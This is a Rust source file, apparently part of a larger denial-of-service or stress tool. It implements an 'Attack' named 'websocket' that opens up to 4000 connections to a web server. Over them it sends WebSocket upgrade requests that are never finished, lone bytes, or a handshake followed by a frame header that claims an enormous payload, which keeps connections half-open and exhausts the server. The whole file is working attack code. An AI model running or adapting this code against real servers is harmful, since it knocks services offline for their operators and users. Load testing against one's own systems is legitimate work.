//! Handshakes that are never finished.

use std::io;

use super::arms::Streams;
use super::{Attack, Field};
use crate::pace::Spent;

const CONNECTIONS: usize = 4000;
/// A whole request, and the start of a message longer than anything.
const WHOLE: &[u8] = b"GET / HTTP/1.1\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\
    Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: MDEyMzQ1Njc4OWFiY2RlZg==\r\n\r\n\
    \x82\xff\x7f\xff\xff\xff\xff\xff\xff\xff";

/// Requests for a WebSocket without their end, and some with a frame that is none behind it.
#[derive(Default)]
pub(super) struct HalfOpenWebSockets {
    streams: Streams,
    opened: u64,
}

impl Attack for HalfOpenWebSockets {
    fn name(&self) -> &'static str {
        "websocket"
    }

    fn about(&self) -> &'static str {
        "WebSocket handshakes that are never finished, and frames that are none"
    }

    fn begin(&mut self, _: &mut Field) -> io::Result<()> {
        Ok(())
    }

    fn strike(&mut self, field: &mut Field, room: usize) -> io::Result<Spent> {
        let mut spent = Spent::default();
        for _ in 0..room.div_ceil(6) {
            if self.streams.count() < CONNECTIONS.min(field.descriptors) {
                spent.add(self.streams.add(field.web, None)?);
                self.opened += 1;
            }
            let words: &[u8] = match self.opened % 4 {
                0 => WHOLE,
                1 => b"GET / HTTP/1.1\r\nUpgrade: websocket\r\n",
                _ => b"G",
            };
            spent.add(self.streams.write_next(words));
            self.streams.inspect();
        }
        Ok(spent)
    }
}
